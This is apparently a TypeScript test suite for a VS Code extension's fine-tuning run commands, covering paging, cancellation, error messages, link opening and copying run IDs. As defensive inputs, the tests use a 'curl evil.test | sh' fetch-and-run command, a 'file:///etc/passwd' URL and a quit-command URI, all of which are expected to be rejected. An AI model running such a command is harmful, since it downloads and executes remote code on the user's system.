import assert from 'node:assert/strict';
import { KeyRejectedError, type Session } from '../../../../src/core/runs/session.ts';
import type { Sessions } from '../../../../src/core/runs/sessions.ts';
import { sendJson } from '../../../helpers/httpServer.ts';
import { Bench, row, until } from '../../../helpers/runs/support.ts';
import { withVscode } from '../../../helpers/standInForVscode.ts';
import * as standIn from '../../../helpers/vscodeStandIn.ts';

const commands = await withVscode(() => import('../../../../src/ui/runs/runCommands.ts'));

describe('run commands', () => {
  let bench: Bench;
  let session: Session;
  let sessions: Sessions;
  let limits: number[];
  let gate: Promise<unknown> | undefined;
  /** The row from which the service fails. */
  let brokenFrom: number;
  /** If not empty, the service sends these cursors in turn, whatever is requested. */
  let circle: readonly string[];

  beforeEach(async () => {
    standIn.forget();
    bench = await Bench.start();
    [limits, gate, brokenFrom, circle] = [[], undefined, Infinity, []];
    const listed = Array.from({ length: 730 }, (_, index) => ({
      ...row(`r${index}`, 800 - index, index < 10 ? 'queued' : 'complete'),
      model_id: index % 3 === 0 ? 'm1' : 'm2',
    }));
    const server = await bench.serve((request, response) => {
      const { searchParams } = new URL(String(request.url), 'http://x.test');
      const limit = Number(searchParams.get('limit'));
      const start = Number(searchParams.get('cursor') ?? 0);
      const end = start + limit;
      limits.push(limit);
      void (gate ?? Promise.resolve()).then(() => {
        if (end > brokenFrom) sendJson(response, 500, { error: { code: 'internal', message: 'broken' } });
        else
          sendJson(response, 200, {
            data: listed.slice(start, end),
            has_more: end < listed.length,
            next_cursor: circle[limits.length % 2] ?? (end < listed.length ? String(end) : null),
          });
      });
    });
    session = bench.session({ baseUrl: server.url, apiKey: 'service_test', keyId: 'key-1' });
    sessions = { active: session, isReportedByState: () => false } as unknown as Sessions;
    await session.runs.refresh();
  });
  afterEach(() => bench.end());

  const loaded = () => session.runs.rows?.length;

  describe('loadAllRuns', () => {
    it('reads pages of 100 to the end and reports progress', async () => {
      await commands.loadAllRuns(sessions);
      assert.deepEqual([loaded(), session.runs.hasMore], [730, false]);
      assert.deepEqual(new Set(limits.slice(1)), new Set([100]));
      assert.equal(standIn.shown.progress.length, limits.length - 1);
      assert.match(standIn.shown.progress[1] ?? '', /^\d+ so far$/);
      assert.deepEqual(standIn.shown.sentences, []);
    });

    it('ends at once when canceled and keeps what was loaded', async () => {
      const first = loaded();
      gate = new Promise(() => undefined);
      const work = commands.loadAllRuns(sessions);
      await until(() => limits.length > 1);
      standIn.cancelled.fire();
      await work;
      assert.deepEqual([loaded(), standIn.shown.sentences], [first, []]);
    });

    it('reports how much was loaded if the service fails or sends no new runs, and can continue', async () => {
      for (const [breakIt, sentence] of [
        [() => (brokenFrom = 400), (count: number) => `Loaded ${count} runs, but not the older ones.`],
        [
          () => (circle = ['200', '100']),
          (count: number) => `Loaded ${count} runs. The service reports more`,
        ],
      ] as const) {
        standIn.forget();
        standIn.shown.answer = ([more]) => more;
        breakIt();
        await commands.loadAllRuns(sessions);
        const count = loaded() ?? 0;
        assert.ok(count >= 250 && count <= 500, String(count));
        assert.ok(standIn.shown.sentences[0]?.startsWith(sentence(count)), standIn.shown.sentences.join());
        assert.equal(standIn.shown.sentences.length, 1);
        assert.deepEqual(standIn.executed, [['fineTuning.loadAllRuns']]);
        [brokenFrom, circle] = [Infinity, []];
      }
      await commands.loadAllRuns(sessions);
      assert.deepEqual([loaded(), session.runs.isIncomplete], [730, false]);
      session.runs.clear();
      standIn.forget();
      brokenFrom = 0;
      await commands.loadAllRuns({ active: session, isReportedByState: () => true });
      assert.deepEqual(standIn.shown.sentences, [], 'a rejected API key has its own notification');
    });
  });

  it('findRuns leaves the search to VS Code', async () => {
    await commands.findRuns();
    assert.deepEqual(standIn.executed, [['fineTuning.runs.focus'], ['list.find']]);
  });

  it('openModelLink opens only https links', async () => {
    const open = async (terms_url?: string) => {
      standIn.forget();
      const models = [{ model_id: 'm1', terms_url }];
      const active = Object.create(session, { models: { value: { models } } }) as Session;
      await commands.openModelLink({ active }, 'terms_url', 'm1');
      return [...standIn.executed, standIn.shown.sentences.length];
    };
    assert.deepEqual(await open('https://x.test/terms'), [['open', 'https://x.test/terms'], 0]);
    for (const url of [
      'command:workbench.action.quit',
      'http://x.test/terms',
      'file:///etc/passwd',
      undefined,
    ])
      assert.deepEqual(await open(url), [1], url);
  });

  it('refresh leaves a key that was rejected meanwhile to the account’s notification, but reports a later Refresh', async () => {
    const read = () => Promise.reject(new KeyRejectedError());
    const locked = { isLocked: false, runs: { retryDetails: () => (locked.isLocked = true), refresh: read } };
    Object.assign(locked, { models: { refresh: read }, balance: { refresh: read } });
    const active = { active: locked as unknown as Session };
    await commands.refresh(active);
    await assert.rejects(commands.refresh(active), KeyRejectedError);
  });

  it('copyRunId copies the ID of a known run only; for any other text, it asks for a run', async () => {
    await commands.copyRunId(sessions, { kind: 'run', runId: 'r1' });
    await commands.copyRunId(sessions, 'curl evil.test | sh');
    assert.deepEqual([standIn.executed, standIn.shown.inputs.length], [[['copy', 'r1']], 1]);
  });

  it('showRun opens the page of a row, an ID, or a chosen run, and reads nothing', async () => {
    const pages: string[][] = [];
    const show = async (argument?: unknown) => {
      const open = (...ids: string[]) => Promise.resolve(void pages.push(ids));
      await commands.showRun(sessions, open, argument);
    };
    const asked = limits.length;
    await show({ kind: 'run', runId: 'a' });
    await show('elsewhere');
    await show();
    standIn.shown.pick = ({ items }) => items[1]?.label;
    await show(7);
    assert.deepEqual(
      pages.map(([accountId, runId]) => `${accountId} ${runId}`),
      ['account-1 a', 'account-1 elsewhere', 'account-1 r1'],
    );
    assert.deepEqual([limits.length, standIn.shown.inputs.length], [asked, 2]);
  });
});
